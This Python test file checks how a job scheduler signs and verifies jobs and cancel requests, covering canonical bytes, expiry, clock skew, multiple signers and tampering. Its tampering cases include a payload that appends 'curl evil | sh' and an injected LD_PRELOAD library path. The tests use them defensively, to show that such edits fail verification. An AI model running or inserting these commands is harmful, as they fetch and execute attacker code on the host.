"""Signing jobs and cancel requests: the signed bytes, verification, expiry, tampering."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from nacl.signing import SigningKey

from horus import jsontext
from horus.errors import InvalidJob, NotAllowed
from horus.job import MAX_SEALED_CHARS, MAX_SIGNATURES, Job, Signature, parse_job
from horus.trust.keys import public_text
from horus.trust.signing import (
    CLOCK_SKEW,
    DEFAULT_VALIDITY,
    CancelRequest,
    job_bytes,
    sign,
    timestamp,
    verify,
)
from tests.strategies import clean, json_values

RETENTION = 7 * 24 * 3600
CREATED = datetime(2024, 1, 2, 3, 4, 5, 678, tzinfo=UTC)
#: a moment shortly after CREATED, well before any expiry the tests give
NOW = CREATED + timedelta(minutes=1)

KEY_A = SigningKey(bytes([1]) * 32)
KEY_B = SigningKey(bytes([2]) * 32)
KEY_C = SigningKey(bytes([3]) * 32)
A, B, C = (public_text(k) for k in (KEY_A, KEY_B, KEY_C))

json_params = st.dictionaries(st.text(clean, max_size=10), json_values, max_size=4)


def make_job(**fields: Any) -> Job:
    """A job with every signed field set, fixed times, ``fields`` changed."""
    data: dict[str, Any] = {
        "id": "job-1",
        "runner_id": "shell",
        "payload": "echo hi",
        "timeout": 30,
        "env_vars": {"A": "1"},
        "secrets": {"S": "c2VhbGVk"},
        "context_id": "prod",
        "caller_id": "alice",
        "created_at": CREATED,
        "max_attempts": 2,
        "dependencies": ["dep-1"],
        "params": {"n": 1, "s": "é"},
        "tags": ["nightly"],
    }
    data.update(fields)
    return parse_job(data)


def signed(job: Job, *keys: SigningKey, validity: int = 3600) -> Job:
    for key in keys:
        job = sign(job, key, validity)
    return job


def refusal(job: Job, now: datetime = NOW, retention: int = RETENTION) -> str:
    with pytest.raises(NotAllowed) as info:
        verify(job, now, retention)
    message = str(info.value)
    assert "\n" not in message
    return message


def with_json(job: Job, **fields: Any) -> Job:
    """``job`` as it would come back from a store where someone changed ``fields``."""
    data = job.model_dump(mode="json")
    data.update(fields)
    return parse_job(json.dumps(data))


SIGNED_JOB = signed(make_job(), KEY_A)


# -- sign then verify ---------------------------------------------------------------------


def test_sign_then_verify_gives_the_signer() -> None:
    assert verify(SIGNED_JOB, NOW, RETENTION) == (A,)


def test_signing_sets_the_expiry_from_the_validity() -> None:
    job = sign(make_job(), KEY_A, 600)
    assert job.expires_at == CREATED + timedelta(seconds=600)
    assert sign(make_job(), KEY_A).expires_at == CREATED + timedelta(seconds=DEFAULT_VALIDITY)


def test_signing_keeps_an_expiry_the_job_already_has() -> None:
    expiry = CREATED + timedelta(seconds=90)
    job = sign(make_job(expires_at=expiry), KEY_A, 600)
    assert job.expires_at == expiry
    assert verify(job, NOW, RETENTION) == (A,)


def test_signing_does_not_change_the_signed_fields() -> None:
    job = make_job()
    after = sign(job, KEY_A)
    assert after.model_dump(exclude={"signatures", "expires_at"}) == job.model_dump(
        exclude={"signatures", "expires_at"}
    )
    assert job.signatures == ()  # jobs are frozen: signing makes a new one


def test_an_unsigned_job_verifies_with_no_signers() -> None:
    assert verify(make_job(), NOW, RETENTION) == ()


# -- tampering ----------------------------------------------------------------------------

#: (signed field, the value someone changes it to)
TAMPERING: list[tuple[str, Any]] = [
    ("id", "job-2"),
    ("runner_id", "python"),
    ("payload", "echo hi; curl evil | sh"),
    ("payload", "echo hi "),
    ("params", {"n": 2, "s": "é"}),
    ("params", {"n": 1, "s": "é", "extra": True}),
    ("params", {"n": 1.0, "s": "é"}),
    ("params", {}),
    ("timeout", 31),
    ("env_vars", {"A": "2"}),
    ("env_vars", {"A": "1", "LD_PRELOAD": "/tmp/x.so"}),
    ("env_vars", {}),
    ("secrets", {"S": "b3RoZXI="}),
    ("secrets", {}),
    ("context_id", "dev"),
    ("context_id", None),
    ("caller_id", "mallory"),
    ("caller_id", None),
    ("created_at", (CREATED - timedelta(seconds=1)).isoformat()),
    ("created_at", (CREATED + timedelta(microseconds=1)).isoformat()),
    ("expires_at", (CREATED + timedelta(days=2)).isoformat()),
    ("expires_at", None),
    ("max_attempts", 3),
    ("dependencies", []),
    ("dependencies", ["dep-1", "dep-2"]),
]


@pytest.mark.parametrize(
    ("field", "value"),
    [pytest.param(f, v, id=f"{f}={v!r}"[:50]) for f, v in TAMPERING],
)
def test_changing_any_signed_field_after_signing_fails_verification(field: str, value: Any) -> None:
    tampered = with_json(SIGNED_JOB, **{field: value})
    assert tampered.model_dump_json() != SIGNED_JOB.model_dump_json()
    message = refusal(tampered)
    assert "does not verify" in message
    assert "sign it again" in message


def test_every_signed_field_is_covered_by_the_tampering_cases() -> None:
    signed_fields = set(json.loads(job_bytes(SIGNED_JOB).removeprefix(b"horus-job-v1\n")))
    assert {field for field, _ in TAMPERING} == signed_fields


@pytest.mark.parametrize(
    ("field", "value"),
    [("tags", ["other", "more"]), ("tags", []), ("status", "running"), ("status", "failed")],
)
def test_changing_a_field_that_is_not_signed_keeps_the_signature(field: str, value: Any) -> None:
    changed = with_json(SIGNED_JOB, **{field: value})
    assert getattr(changed, field) != getattr(SIGNED_JOB, field)
    assert verify(changed, NOW, RETENTION) == (A,)


def test_the_same_created_at_written_in_another_time_zone_still_verifies() -> None:
    local = CREATED.astimezone(timezone(timedelta(hours=-5)))
    moved = with_json(SIGNED_JOB, created_at=local.isoformat())
    assert verify(moved, NOW, RETENTION) == (A,)


@given(payload=st.text(clean, min_size=1, max_size=50))
def test_any_edit_of_the_payload_fails_verification(payload: str) -> None:
    assume(payload != SIGNED_JOB.payload)
    with pytest.raises(NotAllowed, match="does not verify"):
        verify(with_json(SIGNED_JOB, payload=payload), NOW, RETENTION)


@given(params=json_params)
def test_any_edit_of_the_params_fails_verification(params: dict[str, Any]) -> None:
    assume(jsontext.canonical(params) != jsontext.canonical(SIGNED_JOB.params))
    with pytest.raises(NotAllowed, match="does not verify"):
        verify(with_json(SIGNED_JOB, params=params), NOW, RETENTION)


def test_a_damaged_signature_fails_verification() -> None:
    sig = SIGNED_JOB.signatures[0]
    raw = bytearray(base64.b64decode(sig.signature))
    raw[0] ^= 1
    damaged = Signature(public_key=sig.public_key, signature=base64.b64encode(raw).decode())
    job = SIGNED_JOB.model_copy(update={"signatures": (damaged,)})
    assert "does not verify" in refusal(job)


def test_a_signature_by_a_with_the_public_key_of_b_fails_verification() -> None:
    sig = SIGNED_JOB.signatures[0]
    forged = Signature(public_key=B, signature=sig.signature)
    job = SIGNED_JOB.model_copy(update={"signatures": (forged,)})
    message = refusal(job)
    assert "does not verify" in message
    assert B[:60] in message


@pytest.mark.parametrize(
    ("public_key", "signature"),
    [
        pytest.param("ssh-ed25519:AAAA", None, id="bad key prefix"),
        pytest.param("ed25519:AAAA", None, id="short key"),
        pytest.param(None, "not*base64", id="signature not base64"),
        pytest.param(None, base64.b64encode(bytes(10)).decode(), id="short signature"),
    ],
)
def test_a_malformed_signature_is_refused_as_malformed(
    public_key: str | None, signature: str | None
) -> None:
    sig = SIGNED_JOB.signatures[0]
    bad = Signature(public_key=public_key or sig.public_key, signature=signature or sig.signature)
    job = SIGNED_JOB.model_copy(update={"signatures": (bad,)})
    assert "signature 1 of the job is malformed" in refusal(job)


def test_one_bad_signature_among_good_ones_fails_verification() -> None:
    job = signed(make_job(), KEY_A, KEY_B)
    bad = Signature(public_key=C, signature=job.signatures[0].signature)
    job = job.model_copy(update={"signatures": (*job.signatures, bad)})
    assert "signature 3 of the job" in refusal(job)


# -- several signatures -------------------------------------------------------------------


def test_signatures_by_several_keys_all_verify_in_order() -> None:
    job = signed(make_job(), KEY_A, KEY_B, KEY_C)
    assert len(job.signatures) == 3
    assert verify(job, NOW, RETENTION) == (A, B, C)


def test_later_signers_sign_the_same_bytes_and_keep_the_first_expiry() -> None:
    first = sign(make_job(), KEY_A, 600)
    both = sign(first, KEY_B, 1200)
    assert both.expires_at == first.expires_at
    assert verify(both, NOW, RETENTION) == (A, B)


def test_signing_again_with_the_same_key_adds_no_signature() -> None:
    job = signed(make_job(), KEY_A, KEY_A)
    assert len(job.signatures) == 1
    assert verify(job, NOW, RETENTION) == (A,)


def test_a_repeated_signature_counts_its_key_once() -> None:
    job = signed(make_job(), KEY_A, KEY_B)
    sig_a, sig_b = job.signatures
    job = job.model_copy(update={"signatures": (sig_a, sig_b, sig_a, sig_a)})
    assert verify(job, NOW, RETENTION) == (A, B)


def test_signing_stops_at_the_most_signatures_allowed() -> None:
    job = make_job()
    for n in range(MAX_SIGNATURES):
        job = sign(job, SigningKey(bytes([100 + n]) * 32))
    assert len(verify(job, NOW, RETENTION)) == MAX_SIGNATURES
    with pytest.raises(NotAllowed, match=f"already has {MAX_SIGNATURES} signatures"):
        sign(job, KEY_A)


# -- time ---------------------------------------------------------------------------------


def test_a_job_is_refused_once_its_signature_has_expired() -> None:
    expiry = SIGNED_JOB.expires_at
    assert expiry is not None
    assert verify(SIGNED_JOB, expiry - timedelta(microseconds=1), RETENTION) == (A,)
    for now in (expiry, expiry + timedelta(days=1)):
        message = refusal(SIGNED_JOB, now=now)
        assert "expired" in message
        assert f"expired at {timestamp(expiry)}" in message
        assert "--expires-in" in message


def test_an_unsigned_job_past_its_expiry_is_refused_too() -> None:
    job = make_job(expires_at=CREATED + timedelta(seconds=10))
    assert "expired" in refusal(job, now=CREATED + timedelta(seconds=10))


def test_a_job_created_in_the_future_is_refused() -> None:
    at_skew = signed(make_job(created_at=NOW + timedelta(seconds=CLOCK_SKEW)), KEY_A)
    assert verify(at_skew, NOW, RETENTION) == (A,)
    ahead = signed(make_job(created_at=NOW + timedelta(seconds=CLOCK_SKEW + 1)), KEY_A)
    message = refusal(ahead)
    assert "in the future" in message
    assert "clock" in message
    far = signed(make_job(created_at=NOW + timedelta(days=365)), KEY_A)
    assert "in the future" in refusal(far)


def test_a_signature_valid_for_longer_than_retention_is_refused() -> None:
    assert verify(signed(make_job(), KEY_A, validity=RETENTION), NOW, RETENTION) == (A,)
    message = refusal(signed(make_job(), KEY_A, validity=RETENTION + 1))
    assert f"valid for {RETENTION + 1} s" in message
    assert f"longer than the {RETENTION} s" in message
    assert "--expires-in" in message


def test_a_signed_job_without_an_expiry_is_refused() -> None:
    job = make_job()
    assert job.expires_at is None
    raw = KEY_A.sign(job_bytes(job)).signature
    sig = Signature(public_key=A, signature=base64.b64encode(raw).decode())
    job = job.model_copy(update={"signatures": (sig,)})
    assert "no expires_at" in refusal(job)
    with pytest.raises(NotAllowed, match="without an expiry"):
        sign(job, KEY_B)


# -- the signed bytes ---------------------------------------------------------------------

EXPECTED_BYTES = (
    b"horus-job-v1\n"
    b'{"caller_id":"alice","context_id":"prod","created_at":"2024-01-02T03:04:05.000678Z",'
    b'"dependencies":["dep-1"],"env_vars":{"A":"1","B":"2"},'
    b'"expires_at":"2024-01-03T03:04:05.000000Z","id":"job-1","max_attempts":2,'
    b'"params":{"a":null,"b":[1,2.5,"\xc3\xa9\xe2\x82\xac"]},"payload":"echo hi",'
    b'"runner_id":"shell","secrets":{"S":"c2VhbGVk"},"timeout":30}'
)


def fixed_job(**fields: Any) -> Job:
    data: dict[str, Any] = {
        "id": "job-1",
        "runner_id": "shell",
        "payload": "echo hi",
        "timeout": 30,
        "env_vars": {"B": "2", "A": "1"},
        "secrets": {"S": "c2VhbGVk"},
        "context_id": "prod",
        "caller_id": "alice",
        # 05:04 at UTC+2 is 03:04 UTC
        "created_at": datetime(2024, 1, 2, 5, 4, 5, 678, tzinfo=timezone(timedelta(hours=2))),
        "expires_at": datetime(2024, 1, 3, 3, 4, 5, tzinfo=UTC),
        "max_attempts": 2,
        "dependencies": ["dep-1"],
        "params": {"b": [1, 2.5, "é€"], "a": None},
        "tags": ["not-signed"],
        "status": "running",
    }
    data.update(fields)
    return parse_job(data)


def test_the_signed_bytes_are_the_documented_form() -> None:
    assert job_bytes(fixed_job()) == EXPECTED_BYTES


def test_the_signed_bytes_of_a_minimal_job_have_nulls_and_empty_values() -> None:
    job = parse_job(
        {"id": "j", "runner_id": "shell", "payload": "true", "created_at": "2024-01-02T03:04:05"}
    )
    assert job_bytes(job) == (
        b"horus-job-v1\n"
        b'{"caller_id":null,"context_id":null,"created_at":"2024-01-02T03:04:05.000000Z",'
        b'"dependencies":[],"env_vars":{},"expires_at":null,"id":"j","max_attempts":1,'
        b'"params":{},"payload":"true","runner_id":"shell","secrets":{},"timeout":60}'
    )


def test_the_signed_bytes_do_not_depend_on_key_order() -> None:
    job = fixed_job(params={"a": None, "b": [1, 2.5, "é€"]}, env_vars={"A": "1", "B": "2"})
    assert job_bytes(job) == EXPECTED_BYTES


def test_a_signature_made_over_the_documented_bytes_verifies() -> None:
    """What another implementation signing the documented form produces is accepted."""
    raw = KEY_B.sign(EXPECTED_BYTES).signature
    sig = Signature(public_key=B, signature=base64.b64encode(raw).decode())
    job = fixed_job(signatures=[sig.model_dump()])
    assert verify(job, datetime(2024, 1, 2, 4, tzinfo=UTC), RETENTION) == (B,)


def test_timestamp_is_utc_with_microseconds_and_z() -> None:
    plus_two = timezone(timedelta(hours=2))
    assert timestamp(datetime(2024, 1, 2, 5, 4, 5, tzinfo=plus_two)) == (
        "2024-01-02T03:04:05.000000Z"
    )
    assert timestamp(datetime(2024, 12, 31, 23, 59, 59, 999999, tzinfo=UTC)) == (
        "2024-12-31T23:59:59.999999Z"
    )
    assert timestamp(None) is None


# -- the job fields signing relies on -----------------------------------------------------

PLUS_TWO = timezone(timedelta(hours=2))


def job_refusal(**fields: Any) -> str:
    with pytest.raises(InvalidJob) as info:
        make_job(**fields)
    message = str(info.value)
    assert message.startswith("invalid job: ")
    assert "\n" not in message
    return message


def test_a_new_job_has_no_expiry_and_no_secrets() -> None:
    job = Job.new("shell", "true")
    assert job.expires_at is None
    assert job.secrets == {}


@pytest.mark.parametrize("field", ["created_at", "expires_at"])
def test_a_time_without_a_zone_is_taken_as_utc(field: str) -> None:
    naive = datetime(2024, 1, 2, 4, 0, 0)
    job = make_job(**{field: naive})
    assert getattr(job, field) == naive.replace(tzinfo=UTC)
    assert getattr(job, field).utcoffset() == timedelta(0)
    text = make_job(**{field: "2024-01-02T04:00:00"})
    assert getattr(text, field) == naive.replace(tzinfo=UTC)


@pytest.mark.parametrize("field", ["created_at", "expires_at"])
def test_a_time_in_another_zone_is_kept_as_the_same_instant_in_utc(field: str) -> None:
    local = datetime(2024, 1, 2, 6, 0, 0, 5, tzinfo=PLUS_TWO)
    for value in (local, local.isoformat()):
        moment = getattr(make_job(**{field: value}), field)
        assert moment == local
        assert moment.tzinfo is UTC
        assert (moment.hour, moment.microsecond) == (4, 5)


@pytest.mark.parametrize(
    "expires_at",
    [CREATED, CREATED - timedelta(seconds=1), CREATED.astimezone(PLUS_TWO)],
    ids=["equal", "earlier", "equal in another zone"],
)
def test_an_expiry_not_after_creation_is_refused(expires_at: datetime) -> None:
    message = job_refusal(expires_at=expires_at)
    assert "expires_at is not after created_at; give a later expiry" in message


def test_an_expiry_just_after_creation_is_accepted() -> None:
    job = make_job(expires_at=CREATED + timedelta(microseconds=1))
    assert job.expires_at == CREATED + timedelta(microseconds=1)


def test_a_name_given_as_env_var_and_as_secret_is_refused() -> None:
    message = job_refusal(env_vars={"TOKEN": "x", "A": "1"}, secrets={"TOKEN": "c2VhbGVk"})
    assert "['TOKEN'] given both as env var and as secret; give each name once" in message


@pytest.mark.parametrize("name", ["1BAD", "MY-SECRET", "A=B", ""])
def test_a_secret_name_that_is_not_posix_is_refused(name: str) -> None:
    message = job_refusal(secrets={name: "c2VhbGVk"})
    assert "secrets:" in message
    assert f"secret name {name!r} is not a POSIX name" in message


def test_a_sealed_secret_too_long_is_refused() -> None:
    message = job_refusal(secrets={"BIG": "A" * (MAX_SEALED_CHARS + 1)})
    assert f"secret BIG is {MAX_SEALED_CHARS + 1} characters sealed" in message
    assert "by reference" in message
    assert make_job(secrets={"BIG": "A" * MAX_SEALED_CHARS}).secrets["BIG"]


def test_a_nul_byte_in_a_sealed_secret_is_refused() -> None:
    assert "NUL" in job_refusal(secrets={"S": "c2Vh\x00bGVk"})


def test_expiry_and_secrets_survive_a_json_round_trip() -> None:
    job = make_job(expires_at=CREATED.astimezone(PLUS_TWO) + timedelta(hours=1))
    again = parse_job(job.model_dump_json())
    assert again == job
    assert again.secrets == {"S": "c2VhbGVk"}
    assert again.expires_at == CREATED + timedelta(hours=1)
    assert again.created_at.utcoffset() == timedelta(0)


# -- the client -> worker round trip ------------------------------------------------------

ROUND_TRIP_PARAMS: dict[str, Any] = {
    "floats": [0.1, 2.5, 1e16, 1e-7, -0.0, 5.0, 1.7976931348623157e308, 5e-324],
    "big": 2**70,
    "text": "héllo wörld 😀 中文 \u2028 \\ \" '",
    "ключ": {"z": 1, "a": [True, False, None]},
}


def test_a_signed_job_still_verifies_after_a_json_round_trip() -> None:
    job = signed(make_job(created_at=datetime.now(UTC), params=ROUND_TRIP_PARAMS), KEY_A, KEY_B)
    now = datetime.now(UTC)
    for text in (job.model_dump_json(), job.model_dump_json().encode("utf-8")):
        again = parse_job(text)
        assert again.params == ROUND_TRIP_PARAMS
        assert job_bytes(again) == job_bytes(job)
        assert verify(again, now, RETENTION) == (A, B)


def test_a_signed_job_re_encoded_by_another_json_writer_still_verifies() -> None:
    job = signed(make_job(params=ROUND_TRIP_PARAMS), KEY_A)
    data = json.loads(job.model_dump_json())
    reordered = dict(reversed(list(data.items())))
    text = json.dumps(reordered, ensure_ascii=True, indent=3)
    assert verify(parse_job(text), NOW, RETENTION) == (A,)


@settings(max_examples=50)
@given(params=json_params, payload=st.text(clean, min_size=1, max_size=30))
def test_any_signed_job_verifies_after_a_json_round_trip(
    params: dict[str, Any], payload: str
) -> None:
    job = sign(make_job(params=params, payload=payload), KEY_A)
    assert verify(parse_job(job.model_dump_json()), NOW, RETENTION) == (A,)


def test_params_that_cannot_be_signed_are_refused_when_the_job_is_built() -> None:
    with pytest.raises(InvalidJob, match="params"):
        make_job(params={"a": {1: "x", "b": 2}})


# -- cancel requests ----------------------------------------------------------------------


def test_a_cancel_request_is_signed_by_each_key_given() -> None:
    request = CancelRequest.make("job-1", [KEY_A, KEY_B])
    assert request.job_id == "job-1"
    assert request.signers() == (A, B)
    assert CancelRequest.make("job-1", []).signers() == ()


def test_a_cancel_request_is_made_now_in_utc() -> None:
    before = datetime.now(UTC)
    request = CancelRequest.make("job-1", [KEY_A])
    assert before <= request.requested_at <= datetime.now(UTC)
    assert request.requested_at.utcoffset() == timedelta(0)


def test_a_cancel_request_survives_a_json_round_trip() -> None:
    request = CancelRequest.make("job-1", [KEY_A, KEY_B])
    again = CancelRequest.model_validate_json(request.model_dump_json())
    assert again.signed_bytes() == request.signed_bytes()
    assert again.signers() == (A, B)


def test_the_cancel_signed_bytes_are_the_documented_form() -> None:
    plus_two = timezone(timedelta(hours=2))
    request = CancelRequest(
        job_id="job-1", requested_at=datetime(2024, 1, 2, 5, 4, 5, 6, tzinfo=plus_two)
    )
    assert request.signed_bytes() == (
        b'horus-cancel-v1\n{"job_id":"job-1","requested_at":"2024-01-02T03:04:05.000006Z"}'
    )


@pytest.mark.parametrize(
    "change",
    [
        pytest.param({"job_id": "job-2"}, id="job_id"),
        pytest.param({"requested_at": "2024-01-02T03:04:05Z"}, id="requested_at"),
    ],
)
def test_a_changed_cancel_request_fails_verification(change: dict[str, Any]) -> None:
    data = json.loads(CancelRequest.make("job-1", [KEY_A]).model_dump_json())
    data.update(change)
    tampered = CancelRequest.model_validate(data)
    with pytest.raises(NotAllowed, match=r"signature 1 of the cancel request .* does not verify"):
        tampered.signers()


def test_a_job_signature_is_not_a_cancel_signature() -> None:
    request = CancelRequest(
        job_id=SIGNED_JOB.id, requested_at=CREATED, signatures=SIGNED_JOB.signatures
    )
    with pytest.raises(NotAllowed, match="does not verify"):
        request.signers()
